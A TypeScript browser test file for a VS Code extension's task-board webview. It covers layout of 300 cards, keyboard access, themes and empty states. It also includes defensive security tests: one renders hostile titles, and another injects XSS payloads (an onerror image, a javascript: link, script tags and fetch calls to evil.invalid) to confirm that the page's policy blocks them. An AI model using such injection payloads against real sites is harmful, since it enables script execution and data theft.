import { afterEach, describe, expect, test } from 'vitest';
import type { BoardState } from '../../src/protocol/boardPanel';
import type { TaskView } from '../../src/protocol/views';
import { aBoard, aDelta, aPlan, aTask } from '../vscode/views';
import { openBoard, type BoardInChromium } from './support/boardInChromium';
import { HOSTILE_TEXTS } from './support/hostileTexts';
import { barriers, THEMES } from './support/pageInChromium';

const COLUMNS: readonly TaskView['column'][] = ['backlog', 'in-progress', 'review', 'done'];
const STATES = { backlog: 'backlog', 'in-progress': 'running', review: 'attention', done: 'landed' } as const;

let board: BoardInChromium;
afterEach(async () => {
  await board.close();
});

function garden(tasks: TaskView[], fields: Partial<BoardState> = {}): BoardState {
  return { title: 'garden', live: true, trusted: true, snapshot: aBoard([aPlan({ total: tasks.length, landed: 1, needsYou: 1 })], tasks), ...fields };
}

function manyTasks(number: number, title: (index: number) => string): TaskView[] {
  return Array.from({ length: number }, (_, index) => {
    const column = COLUMNS[index % COLUMNS.length] ?? 'backlog';
    return aTask(`W${index}`, { title: title(index), position: index, column, state: STATES[column], needsYou: column === 'review' });
  });
}

describe('300 cards', () => {
  test('stand in their columns, and a delta moves one of them', async () => {
    const tasks = manyTasks(300, (index) => `Plant row ${index}`);
    board = await openBoard(() => garden(tasks));
    const { page, window } = board;
    await page.locator('.card').nth(299).waitFor();
    for (const column of COLUMNS) expect(await page.locator(`[data-column="${column}"] .card`).count(), column).toBe(75);
    const before = performance.now();
    window.notify('board/delta', aDelta(2, { tasks: [{ ...(tasks[1] as TaskView), column: 'done', state: 'landed', text: 'landed' }] }));
    await page.locator('[data-column="done"] [data-task="spring/W1"]').waitFor();
    expect(performance.now() - before).toBeLessThan(1000);
    expect(await page.locator('[data-column="in-progress"] .card').count()).toBe(74);
    expect(board.complaints).toEqual([]);
  });

  test('can be reached and opened with the keyboard alone', async () => {
    board = await openBoard(() => garden(manyTasks(8, (index) => `Row ${index}`)));
    const { page } = board;
    await page.keyboard.press('Tab');
    expect(await page.locator('.card:focus').getAttribute('data-task')).toBe('spring/W0');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Space');
    await expect.poll(() => board.asked).toEqual(['spring/W0', 'spring/W4']);
  });
});

test(`${HOSTILE_TEXTS.length} hostile titles stand there as text; no script runs and nothing is fetched`, async () => {
  const tasks = HOSTILE_TEXTS.map((title, index) => aTask(`W${index}`, { title, text: title, agent: title, position: index, state: index % 2 === 0 ? 'running' : title.slice(0, 40) }));
  const plan = aPlan({ title: HOSTILE_TEXTS[0] ?? '', text: HOSTILE_TEXTS[3] ?? '' });
  board = await openBoard(() => ({ title: `garden${HOSTILE_TEXTS[3] ?? ''}`, live: true, trusted: true, snapshot: aBoard([plan], tasks, { trouble: HOSTILE_TEXTS[5] ?? '' }) }));
  const { page } = board;
  await page.locator('.card').nth(HOSTILE_TEXTS.length - 1).waitFor();
  expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(50);
  expect(await page.locator('.card .name').evaluateAll((names) => names.map((name) => (name as unknown as { textContent: string }).textContent))).toEqual(HOSTILE_TEXTS);
  expect(await page.locator('.card .name *, .card .text *, h1 *, h2 *').count()).toBe(0);
  expect(await page.evaluate('globalThis.ran')).toBeUndefined();
  expect(await page.locator('script').count()).toBe(1);
  expect(board.requests).toEqual([]);
  expect(board.complaints).toEqual([]);
});

test('text that got past everything else would be stopped by the page’s own policy', async () => {
  board = await openBoard(() => garden([aTask('W1')]));
  const { page } = board;
  await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.invalid/p.png" onerror="globalThis.ran=1"><iframe src="https://evil.invalid/"></iframe><a id="j" href="javascript:globalThis.ran=1">x</a>'); document.getElementById('j').click();`);
  await page.evaluate(`const s = document.createElement('script'); s.src = 'https://evil.invalid/s.js'; document.body.append(s); const i = document.createElement('script'); i.textContent = 'globalThis.ran=1'; document.body.append(i); fetch('https://evil.invalid/f').catch(() => undefined);`);
  await expect.poll(() => board.complaints.length).toBeGreaterThanOrEqual(5);
  expect(await page.evaluate('globalThis.ran')).toBeUndefined();
  expect(board.requests).toEqual([]);
});

describe.each(Object.keys(THEMES) as (keyof typeof THEMES)[])('in the %s theme', (theme) => {
  test('nothing bars anybody from the board', async () => {
    board = await openBoard(() => garden(manyTasks(24, (index) => `Plant row ${index}`)), theme);
    expect(await barriers(board)).toEqual([]);
  });

  test('nor from an empty one', async () => {
    board = await openBoard(() => garden([], { snapshot: aBoard([], []) }), theme);
    expect(await barriers(board)).toEqual([]);
  });
});

describe('an empty board', () => {
  test('offers to start a plan', async () => {
    board = await openBoard(() => garden([], { snapshot: aBoard([], []) }));
    await board.page.locator('vscode-button', { hasText: 'Start Plan' }).click();
    await expect.poll(() => board.asked).toEqual(['plan']);
  });

  test('offers nothing in Restricted Mode', async () => {
    board = await openBoard(() => garden([], { trusted: false, snapshot: aBoard([], []) }));
    await board.page.getByText('In Restricted Mode nothing is started.').waitFor();
    expect(await board.page.locator('vscode-button').count()).toBe(0);
  });
});

test('the page remembers whose board it is, for when the window is reloaded', async () => {
  board = await openBoard(() => garden([], { live: false }));
  expect(await board.page.evaluate('globalThis.remembered')).toEqual({ repository: '/garden/.git/"coppice"' });
  await board.page.getByText('No engine is running. This is what was last seen.').waitFor();
});
